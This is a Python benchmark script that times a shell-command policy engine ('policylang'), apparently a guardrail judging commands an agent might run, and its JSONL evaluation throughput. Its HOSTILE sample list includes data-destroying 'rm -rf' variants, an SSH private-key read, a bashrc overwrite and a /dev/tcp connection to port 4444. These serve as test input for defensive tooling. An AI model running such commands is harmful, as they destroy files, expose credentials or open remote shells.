"""Benchmark: `Policy.evaluate` per command, and `policylang eval --jsonl` throughput.

Run: .venv/bin/python benchmarks/bench_engine.py [--n N] [--cpu] [--skip-jsonl] [--workspace D]
     [--skip-real] [--real-workspace D]

The sample is fixed (seeded): commands from ../shared/corpora (tldr, nl2bash, codex_cases)
plus compound and hostile lines. No cache: every call parses and evaluates from scratch.
The figures come twice: bare (no PATH, a workspace that does not exist, as the targets
were first measured) and in a real setting (this process's environment, this checkout as
the workspace), which is what an agent's runtime pays.
Targets (issue 4): median <= 15 us, p99 <= 150 us; eval --jsonl >= 20,000 commands/s.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import statistics
import subprocess
import sys
import time
from pathlib import Path

from policylang import _native
from policylang.engine.context import EvalContext
from policylang.engine.evaluate import _Walk
from policylang.engine.policy import load_policy
from policylang.shell.plain import plain_line

ROOT = Path(__file__).resolve().parents[1]
CORPORA = ROOT.parent / "shared" / "corpora"

HOSTILE = (
    "cd ~/.ssh && cat id_rsa",
    "echo $(sudo id) | bash",
    "$'\\x72\\x6d' -rf /",
    "bash -c 'bash -c \"rm -rf ~\"'",
    "env -i PATH=/tmp timeout 5 nice -n 1 rm -rf /",
    "cat <<EOF > ~/.bashrc\nevil\nEOF",
    "git status && git log --oneline -5 && git diff --stat",
    "find . -name '*.py' | xargs grep -n TODO | sort | uniq -c | sort -rn | head",
    "ls -la | grep foo | wc -l",
    "PATH=/tmp:$PATH; ls",
    'for f in *.py; do wc -l "$f"; done',
    "exec 3<>/dev/tcp/10.0.0.1/4444",
)


def _column(path: Path, name: str) -> list[str]:
    lines = path.read_text(encoding="utf-8").splitlines()
    index = lines[0].split("\t").index(name)
    return [line.split("\t")[index] for line in lines[1:] if line.count("\t") >= index]


def sample(n: int, seed: int = 4) -> list[str]:
    rng = random.Random(seed)
    commands: list[str] = []
    if CORPORA.is_dir():
        for name in ("tldr.tsv", "nl2bash.tsv", "codex_cases.tsv"):
            pool = _column(CORPORA / name, "command")
            commands.extend(rng.sample(pool, min(len(pool), n // 3)))
    else:
        print("note: ../shared/corpora not found; sampling only built-in lines", file=sys.stderr)
    commands.extend(HOSTILE * max(1, n // (10 * len(HOSTILE))))
    rng.shuffle(commands)
    return commands


def bench_evaluate(
    commands: list[str],
    repeats: int = 3,
    *,
    cpu: bool = False,
    workspace: str = "/nonexistent/workspace",
) -> None:
    policy = load_policy(parse_cache=0, decision_cache=0)
    ctx = EvalContext.build(workspace=workspace, env={"HOME": "/nonexistent/home"})
    for command in commands[:200]:  # warm up imports and caches of the interpreter
        policy.evaluate_in(command, ctx)
    timings: list[float] = []
    # CPU time of this thread is what to read on a machine shared with other jobs: wall time
    # there includes the time the scheduler gave to someone else
    clock = time.thread_time_ns if cpu else time.perf_counter_ns
    kind = "thread CPU time" if cpu else "wall time"
    plain: dict[bool, list[float]] = {True: [], False: []}
    wrappers = policy.compiled.wrappers
    for _ in range(repeats):
        for command in commands:
            start = clock()
            policy.evaluate_in(command, ctx)
            elapsed = (clock() - start) / 1000
            timings.append(elapsed)
            plain[plain_line(command, wrappers=wrappers) is not None].append(elapsed)
    print(f"engine: {_native.STATUS}")
    print(f"workspace {workspace}; load average {_load()}")
    _report(f"evaluate: {len(commands)} commands x {repeats}, no cache, {kind}", timings, True)
    # first sight: a fresh policy, each distinct command once, so that no memo of a pure
    # sub-result (protected-path matches, git config files) can have seen it before
    fresh = load_policy(parse_cache=0, decision_cache=0)
    fresh.evaluate_in("true", ctx)
    first: list[float] = []
    for command in dict.fromkeys(commands):
        start = clock()
        fresh.evaluate_in(command, ctx)
        first.append((clock() - start) / 1000)
    _report(f"  first sight: {len(first)} distinct commands once, fresh policy", first, False)
    share = len(plain[True]) / max(1, len(timings))
    _report(f"  plain lines ({share:.0%}: words, simple quotes, ; && || |)", plain[True], False)
    _report("  other lines (the tree-sitter analyser)", plain[False], False)
    # the same split in two: the shell analyser's parse, and the engine's walk of its model
    view = policy._view
    parse_times: list[float] = []
    walk_times: list[float] = []
    for command in commands:
        start = clock()
        line = view.parse(command)
        middle = clock()
        walk = _Walk(view, ctx, None, policy._evaluator._git)
        walk.visit_line(line, walk.start, None, "")
        walk.assemble(command)
        parse_times.append((middle - start) / 1000)
        walk_times.append((clock() - middle) / 1000)
    _report("  of which parse (plain-line fast path or shell analyser)", parse_times, False)
    _report("  of which walk (engine)", walk_times, False)
    print(f"load average {_load()}")


def bench_real_setting(commands: list[str], *, cpu: bool, workspace: str) -> None:
    """The same sample as an agent's runtime judges it: in this process's environment
    (its PATH, with any version manager's shims, and HOME) and a real git checkout as the
    workspace. PATH entries, git's configuration and existing paths are looked up on
    disk, which the bare figures above (no PATH, a workspace that does not exist) skip."""
    policy = load_policy(parse_cache=0, decision_cache=0)
    ctx = EvalContext.build(workspace=workspace, env=dict(os.environ))
    for command in commands[:200]:
        policy.evaluate_in(command, ctx)
    clock = time.thread_time_ns if cpu else time.perf_counter_ns
    timings: list[float] = []
    for _ in range(3):
        for command in commands:
            start = clock()
            policy.evaluate_in(command, ctx)
            timings.append((clock() - start) / 1000)
    entries = len(os.environ.get("PATH", "").split(":"))
    _report(
        f"evaluate in a real setting: workspace {workspace}, this process's environment "
        f"({entries} PATH entries)",
        timings,
        True,
    )
    print(f"load average {_load()}")


def _load() -> str:
    return " ".join(f"{x:.2f}" for x in os.getloadavg())


def _report(title: str, timings: list[float], targets: bool) -> None:
    timings.sort()
    q = statistics.quantiles(timings, n=100)
    print(title)
    median_target = "   (target <= 15)" if targets else ""
    print(f"  median {statistics.median(timings):8.1f} us{median_target}")
    print(f"  p90    {q[89]:8.1f} us")
    print(f"  p99    {q[98]:8.1f} us" + ("   (target <= 150)" if targets else ""))
    print(f"  max    {timings[-1]:8.1f} us")


def bench_jsonl(commands: list[str]) -> None:
    payload = "".join(json.dumps({"command": c}) + "\n" for c in commands * 3)
    base = [sys.executable, "-m", "policylang.cli.main", "eval", "--jsonl"]
    start = time.perf_counter()
    subprocess.run(base, input="", capture_output=True, text=True, check=True)
    startup = time.perf_counter() - start
    print(f"eval --jsonl: process start and policy load {startup:.2f} s; load average {_load()}")
    for cache in (0, 8192):
        args = [sys.executable, "-m", "policylang.cli.main"]
        args += ["eval", "--jsonl", "--workspace", "/nonexistent/workspace"]
        args += ["--cache", str(cache)]
        start = time.perf_counter()
        done = subprocess.run(args, input=payload, capture_output=True, text=True, check=True)
        elapsed = time.perf_counter() - start
        lines = done.stdout.count("\n")
        label = "no cache" if cache == 0 else f"cache {cache} (each line 3 times)"
        print(f"eval --jsonl, {label}: {lines} commands in {elapsed:.2f} s (with process start)")
        print(f"  {lines / elapsed:,.0f} commands/s   (target >= 20,000)")
        print(f"  {lines / max(elapsed - startup, 1e-9):,.0f} commands/s after start-up")
    print(f"load average {_load()}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--n", type=int, default=6000, help="sample size")
    parser.add_argument("--skip-jsonl", action="store_true")
    parser.add_argument(
        "--workspace",
        default="/nonexistent/workspace",
        help="workspace of the evaluations (an existing one makes paths resolve on disk)",
    )
    parser.add_argument(
        "--cpu", action="store_true", help="time with thread CPU time instead of wall time"
    )
    parser.add_argument(
        "--real-workspace",
        default=str(ROOT),
        help="workspace of the real-setting figures (default: this checkout)",
    )
    parser.add_argument("--skip-real", action="store_true", help="skip the real-setting figures")
    args = parser.parse_args()
    commands = sample(args.n)
    bench_evaluate(commands, cpu=args.cpu, workspace=args.workspace)
    if not args.skip_real:
        bench_real_setting(commands, cpu=args.cpu, workspace=args.real_workspace)
    if not args.skip_jsonl:
        bench_jsonl(commands)
    return 0


if __name__ == "__main__":
    sys.exit(main())
